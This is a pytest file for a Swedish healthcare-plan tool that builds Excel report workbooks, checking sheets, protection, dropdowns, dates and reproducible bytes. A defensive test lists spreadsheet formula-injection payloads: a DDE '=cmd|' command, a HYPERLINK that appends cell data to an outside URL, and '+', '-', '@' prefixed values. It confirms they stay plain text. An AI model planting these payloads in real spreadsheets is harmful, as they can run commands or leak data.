"""The report workbook as Excel and LibreOffice see it: sheets, protection, dropdowns, dates,
the hidden sheet, text that is never a formula, and the same bytes for the same plans."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from planverk.intake.selection import select
from planverk.intake.workbook import make_all
from planverk.loading.planset import load_plan_dir
from tests.conftest import cli
from tests.intake.helpers import make
from tests.realclients import need

HOSTILE = [
    '=HYPERLINK("https://exempel.se/?q="&A1,"Klicka här")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-3",
    "@SUM(A1:A2)",
]


def test_sheets_headers_protection_and_validation(shipped: Path) -> None:
    (path,) = [p for p in make("2025", "t2") if p.name == "rpo-hjärta-kärl.xlsx"]
    book = load_workbook(path)
    assert book.sheetnames == ["Instruktioner", "Åtgärder", "Indikatorer", "planverk"]
    assert book.active.title == "Instruktioner"
    assert book["planverk"].sheet_state == "hidden"
    sheet = book["Åtgärder"]
    headers = [c.value for c in sheet[1]]
    assert headers == [
        "Id",
        "Åtgärd",
        "Aktivitet eller mål",
        "Uppdrag",
        "Tidplan",
        "Status",
        "Kommentar",
        "Resultat",
        "Datum",
        "Senast rapporterat",
        "Senaste kommentar",
        "Uppföljningens metod",
        "Uppföljningens mål",
        "Handlingsplan",
    ]
    assert sheet.freeze_panes == "B2"
    assert sheet.column_dimensions["B"].width == 50
    for name in ("Instruktioner", "Åtgärder", "Indikatorer", "planverk"):
        protection = book[name].protection
        assert protection.sheet and not protection.password
    assert [sheet.cell(2, c).protection.locked for c in range(1, 15)] == [
        True, True, True, True, True, False, False, False, False, True, True, True, True, True,
    ]  # fmt: skip
    # The t2 reports exist: the workbook shows them in the editable cells.
    assert sheet["A2"].value == "hjärtsvikt-vårdförlopp"
    assert sheet["F2"].value == "grön"
    assert sheet["G2"].value == "Alla sju regioner har infört remissrutinen."
    assert sheet["I2"].value == dt.datetime(2025, 8, 31)
    assert sheet["I2"].number_format == "yyyy-mm-dd"
    assert sheet["J2"].value == "Tertial 1 2025 (2025-04-30): grön"
    assert sheet["E2"].value.startswith("2025-01-15 – 2025-12-31\nInförandeplan klar")
    # The finished action (avslutad at t2) is there, as reported; five rows in all.
    assert [sheet.cell(r, 1).value for r in range(2, 8)] == [
        "hjärtsvikt-vårdförlopp",
        "sekundärprevention-hjärtinfarkt",
        "utbildning-hjärtultraljud",
        "aortaklaff-arbetsfördelning",
        "digital-hjärtrehabilitering",
        None,
    ]
    rules = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    status = rules["F2:F6"]
    assert status.type == "list" and status.formula1 == '"grön,gul,röd,avslutad"'
    assert (
        status.showErrorMessage and status.error == "Välj grön, gul, röd eller avslutad i listan."
    )
    date = rules["I2:I6"]
    assert (date.type, date.operator) == ("date", "between")
    assert (date.formula1, date.formula2) == ("45778", "45960")  # 2025-05-01, 2025-10-30
    indicators = book["Indikatorer"]
    assert [c.value for c in indicators[1]] == ["Id", "Åtgärd", "Kvalitetsindikator", "Värde"]
    assert indicators.max_row == 1 + 10  # two indicators for each of five actions
    assert not indicators["D2"].protection.locked
    instructions = "\n".join(str(c.value) for c in book["Instruktioner"]["A"] if c.value)
    assert "Rapport för Tertial 2 2025 – RPO Hjärt- och kärlsjukdomar" in instructions
    assert "grön = enligt plan, gul = mindre problem" in instructions
    assert "mellan 2025-05-01 och 2025-10-30" in instructions


def test_same_plans_same_bytes(shipped: Path) -> None:
    planset = load_plan_dir(shipped / "plans")
    first = make_all(select(planset, 2025, "helår"))
    second = make_all(select(load_plan_dir(shipped / "plans"), 2025, "helår"))
    assert [m.data for m in first] == [m.data for m in second]
    with zipfile.ZipFile(io.BytesIO(first[0].data)) as archive:
        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        core = archive.read("docProps/core.xml").decode()
    assert "<dcterms:created" in core and "2025-12-31T00:00:00Z</dcterms:created>" in core
    assert "2025-12-31T00:00:00Z</dcterms:modified>" in core


def _hostile_plans(root: Path) -> None:
    path = root / "plans" / "handlingsplaner" / "ledningsgruppen-2025.yaml"
    text = path.read_text(encoding="utf-8")
    quoted = [t.replace("\\", "\\\\").replace('"', '\\"') for t in HOSTILE]
    text = text.replace("text: Stärk samverkan mellan nätverken.", f'text: "{quoted[0]}"')
    text = text.replace("text: Tema på Ledningsgruppens möte.", f'text: "{quoted[1]}"')
    text += "".join(
        f'  - id: åtgärd-{n}\n    text: "{q}"\n    aktivitet: stödja-nära-vård\n'
        for n, q in enumerate(quoted[2:], start=2)
    )
    path.write_text(text, encoding="utf-8")


def test_text_from_plans_is_never_a_formula(minimal: Path, tmp_path: Path) -> None:
    _hostile_plans(minimal)
    assert cli("validate").exit_code == 0
    (path,) = make("2025", "t2")
    book = load_workbook(path)
    sheet = book["Åtgärder"]
    cells = [sheet["B2"], sheet["D2"], sheet["B3"], sheet["B4"], sheet["B5"]]
    assert [c.data_type for c in cells] == ["s"] * 5
    assert [c.value for c in cells] == [HOSTILE[0], f"Ledningsgruppen: {HOSTILE[1]}", *HOSTILE[2:]]
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
        assert not [n for n in archive.namelist() if "externalLink" in n or "vba" in n]
    # LibreOffice Calc reads them as text too: the CSV it writes holds the texts, not results.
    soffice = need("soffice", "libreoffice")
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(tmp_path / 'lo-profil').as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,2",
            "--outdir",
            str(tmp_path),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    exported = (tmp_path / "ledningsgruppen-Åtgärder.csv").read_text(encoding="utf-8")
    assert "Klicka här" not in exported.replace(HOSTILE[0].replace('"', '""'), "")
    assert HOSTILE[0].replace('"', '""') in exported
    assert "=cmd|' /C calc'!A0" in exported
    assert ",+1+2," in exported and ",-3," in exported and ",@SUM(A1:A2)," in exported


def test_rapportmall_refuses_to_write_into_the_plans(minimal: Path) -> None:
    run = cli("rapportmall", "2025", "--period", "t2", "-o", "plans/rapporter")
    assert run.exit_code == 2
    assert "det ligger i planmappen plans/" in run.stderr
    run = cli("rapportmall", "2025", "--period", "t9")
    assert run.exit_code == 2
    assert "perioden 't9' finns inte bland projektets uppföljningsperioder" in run.stderr
    assert "t1 (Tertial 1), t2 (Tertial 2), helår (Helår)" in run.stderr
